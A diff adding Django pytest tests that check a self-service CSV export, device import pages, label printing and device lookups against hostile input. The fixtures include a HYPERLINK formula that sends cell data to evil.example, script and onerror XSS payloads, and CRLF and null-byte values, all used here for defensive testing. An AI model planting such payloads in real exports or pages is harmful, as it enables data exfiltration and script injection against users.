@@ -18,7 +18,7 @@ from django.utils import timezone
 from icalendar import Calendar
 
 from appointments import services as appointments
-from appointments.models import WaitlistEntry
+from appointments.models import Location, WaitlistEntry
 from assets.imports import device_import_run
 from assets.inventory import inventory_compare
 from assets.models import Device, DeviceImport, DeviceState, InventoryCheck
@@ -519,3 +519,77 @@ def test_another_import_id_or_a_forged_one_is_a_404_not_a_500(client, asset_mana
     client.force_login(asset_manager)
     for import_id in ["999999", "99999999999999999999"]:
         assert client.get(f"/admin/assets/device/import/{import_id}/").status_code == 404
+
+
+def test_names_in_my_data_csv_cannot_run_as_formulas(client, hostile_booking):
+    """A campaign or location named like a formula stays text in MY DATA's spreadsheet."""
+    import csv
+    import zipfile
+
+    from appointments.models import Campaign
+
+    Campaign.objects.update(name='=HYPERLINK("http://evil.example/?"&A1,"Open")')
+    Location.objects.update(name="@SUM(1+1)", address="+1-2")
+    export = client.get("/api/selfservice/export")
+    assert export.status_code == 200 and "no-store" in export["Cache-Control"]
+    with zipfile.ZipFile(io.BytesIO(b"".join(export.streaming_content))) as bundle:
+        text = bundle.read("my-data.csv").decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    appointment = [c for c in cells if "HYPERLINK" in c]
+    assert appointment and all(c.startswith("'") for c in appointment), appointment
+    assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells
+
+
+def test_markup_in_an_import_file_name_or_row_stays_text_on_the_result_page(client, asset_manager):
+    client.force_login(asset_manager)
+    name = '"><script>alert(1)</script>.csv'
+    upload(client, b"device_id,tag_id\n<img src=x onerror=alert(1)>,1\n", name)
+    job = run_the_only_import()
+    assert job.status == "done" and job.messages
+    page = client.get(f"/admin/assets/device/import/{job.pk}/").content
+    assert b"<script>alert(1)</script>" not in page
+    assert b"<img src=x" not in page and b"&lt;img src=x" in page
+
+
+def test_a_label_sheet_larger_than_a_print_run_is_refused_with_a_message(client, asset_manager):
+    Device.objects.bulk_create(
+        Device(device_id=f"M-{n}", tag_id=n, state=DeviceState.IN_STOCK) for n in range(2001)
+    )
+    client.force_login(asset_manager)
+    answer = client.post(
+        "/admin/assets/device/",
+        {"action": "print_labels", "select_across": "1", "index": "0", "_selected_action": ["1"]},
+        follow=True,
+    )
+    assert answer.status_code == 200
+    assert b"print at most 2000 labels at a time" in answer.content
+
+
+@pytest.mark.parametrize("who", ["clerk", "medic", "privacy_officer", "person"])
+def test_only_the_asset_team_prints_labels(client, who):
+    make_device("L-1")
+    client.force_login(getattr(personas, who)())
+    answer = client.post(
+        "/admin/assets/device/",
+        {"action": "print_labels", "_selected_action": [Device.objects.get().pk]},
+    )
+    assert answer.status_code in (302, 403)
+    assert b"<svg" not in answer.content
+
+
+@pytest.mark.parametrize(
+    "typed",
+    ["%00", "P-0300%00", "%E2%80%8BP-0300", "%D0%A0-0300", "P" * 5000, "%25", "P-0300%0D%0AX:1"],
+)
+def test_the_desk_looking_up_a_hostile_device_id_gets_a_404_naming_no_one(client, holders, typed):
+    client.force_login(personas.clerk())
+    answer = client.get(f"/api/registration/devices/{typed}")
+    assert answer.status_code == 404, answer.content[:200]
+    assert "Ines" not in answer.content.decode() and len(answer.content) < 1000
+
+
+def test_the_desk_finds_a_device_typed_in_lower_case_with_a_scanners_spaces(client, holders):
+    client.force_login(personas.clerk())
+    answer = client.get("/api/registration/devices/%20p-0300%09")
+    assert answer.status_code == 200
+    assert answer.json()["device"]["device_id"] == "P-0300"
